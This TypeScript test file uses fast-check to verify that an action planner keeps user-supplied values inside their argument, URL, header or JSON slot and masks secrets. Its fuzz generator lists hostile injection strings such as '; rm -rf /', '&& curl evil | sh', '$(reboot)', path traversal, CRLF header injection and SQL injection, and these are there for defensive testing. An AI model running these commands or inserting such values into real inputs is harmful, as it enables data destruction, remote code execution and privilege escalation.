import fc from 'fast-check';
import { expect, test } from 'vitest';
import { Action } from '../../src/action/catalogue.ts';
import { planAction } from '../../src/action/plan-action.ts';
import type { HttpPlan, Plan } from '../../src/action/run.ts';
import { recorded, settleAction } from '../../src/action/settle-action.ts';

/** Whatever somebody might type: shells, other languages, controls, turns of direction, too much. */
const nasty = fc.oneof(
  fc.string({ unit: 'grapheme', maxLength: 60 }),
  fc.string({ unit: 'binary', maxLength: 40 }),
  fc.constantFrom(
    '$(reboot)',
    '`id`',
    '; rm -rf /',
    '| sh',
    '&& curl evil | sh',
    "' OR 1=1 --",
    '"',
    '\\',
    '{{other}}',
    '$TOKEN',
    ['$', '{TOKEN}'].join(''),
    '--force',
    '-rf',
    'a\nb',
    'a\r\nx-admin: 1',
    'a\0b',
    '../../etc/passwd',
    '..',
    '%2e%2e',
    '?admin=1',
    '#x',
    '@evil.example',
    'x&admin=1',
    '","admin":true,"x":"',
    '\u202Eevil',
    'x'.repeat(100_000),
  ),
);

const values = fc.record({ a: nasty, other: nasty });
const parameters = { a: { max: 4096 }, other: { max: 4096 } };

/** The plan for these values, or null where they are refused before anything is asked for. */
function planned(action: Action, given: Record<string, string>): Plan | null {
  const settled = settleAction(action, given);
  if (!('problems' in settled)) return planAction(action, settled.pieces, (secret) => secret);
  expect(Object.keys(settled.problems).length).toBeGreaterThan(0);
  return null;
}

test('a value reaches a program as a part of one word, or is refused', () => {
  const run = ['./x', '{{a}}', '--name={{a}}', '{{a}}{{other}}', 'end'];
  const action = Action.parse({ run, parameters });
  let taken = 0;
  fc.assert(
    fc.property(values, ({ a, other }) => {
      const plan = planned(action, { a, other });
      if (plan === null) return;
      taken += 1;
      const stages = plan.kind === 'pipeline' ? plan.stages : [];
      expect(stages).toEqual([
        {
          argv: ['./x', a, `--name=${a}`, `${a}${other}`, 'end'],
          env: {},
          stderr: 'keep',
          stdout: 'keep',
        },
      ]);
      for (const word of [a, other]) expect(word).not.toMatch(/^-|^\s*$|\0|\r|\u202E/u);
    }),
    { numRuns: 3000 },
  );
  expect(taken).toBeGreaterThan(500);
});

test('a value stays in its place of a call: host, path, names and other values are those of the file', () => {
  const action = Action.parse({
    http: {
      method: 'POST',
      url: 'http://shop.internal:8080/api/{{a}}/restart?reason={{other}}',
      headers: { 'x-reason': 'by {{a}}' },
      json: { a: '{{a}}', list: ['{{other}}', 'x{{a}}y'], admin: false },
    },
    parameters,
  });
  let taken = 0;
  fc.assert(
    fc.property(values, ({ a, other }) => {
      const plan = planned(action, { a, other });
      if (plan === null) return;
      taken += 1;
      const call = (plan as { request: HttpPlan }).request;
      const url = new URL(call.url);
      expect(url.origin).toBe('http://shop.internal:8080');
      const segments = url.pathname.split('/');
      expect(segments).toHaveLength(4);
      expect(segments.map(decodeURIComponent)).toEqual(['', 'api', a, 'restart']);
      expect([...url.searchParams]).toEqual([['reason', other]]);
      expect(JSON.parse(call.body?.text ?? '')).toEqual({
        a,
        list: [other, `x${a}y`],
        admin: false,
      });
      expect(call.headers).toEqual([
        { name: 'content-type', value: { text: 'application/json' } },
        { name: 'x-reason', value: { text: `by ${a}` } },
      ]);
    }),
    { numRuns: 3000 },
  );
  expect(taken).toBeGreaterThan(100);
});

test('a secret is sealed on the run, and stands as dots wherever people read', () => {
  const action = Action.parse({
    run: ['./x', '--token={{t}}', '{{v}}'],
    parameters: { t: { secret: true, title: 'Token' }, v: {} },
  });
  const settled = settleAction(action, { t: 'hunter2', v: 'x' });
  if ('problems' in settled) throw new Error('refused');
  const seal = () => 'sealed';
  const plan = planAction(action, settled.pieces, seal);
  expect(plan).toMatchObject({
    stages: [
      {
        argv: ['./x', '--token=••••••', 'x'],
        late: [{ word: 1, at: 8, length: 6, from: { sealed: 'sealed' } }],
      },
    ],
  });
  const kept = recorded(
    [
      { name: 't', title: 'Token', written: '{{t}}', default: null, secret: true },
      { name: 'v', written: '{{v}}', default: null, secret: false },
    ],
    (name) => settled.pieces.get(name),
    seal,
  );
  expect(kept).toEqual([
    { name: 't', title: 'Token', sealed: 'sealed' },
    { name: 'v', title: 'v', value: 'x' },
  ]);
  expect(JSON.stringify([plan, kept])).not.toContain('hunter2');
});
